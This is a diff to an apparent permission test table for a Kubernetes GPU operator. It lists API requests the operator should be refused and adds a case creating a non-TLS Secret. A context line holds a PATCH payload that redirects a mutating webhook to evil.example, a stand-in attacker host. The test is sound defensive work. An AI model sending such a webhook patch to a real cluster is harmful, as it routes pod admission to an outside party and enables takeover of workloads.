@@ -85,6 +85,10 @@ const Act kBeyond[] = {
 };
 
 const Act kConfined[] = {
+    {"make an opaque Secret", "POST", kSecrets,
+     R"({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "berth-webhook-tls"},)"
+     R"( "type": "Opaque"})",
+     "of type kubernetes.io/tls only"},
     {"have pods sent to another server", "PATCH", kMutating,
      R"({"webhooks": [{"name": "pods.gpu.berth.dev", "clientConfig": {"url": "https://evil.example/", "service": null}}]})",
      kBundleOnly},
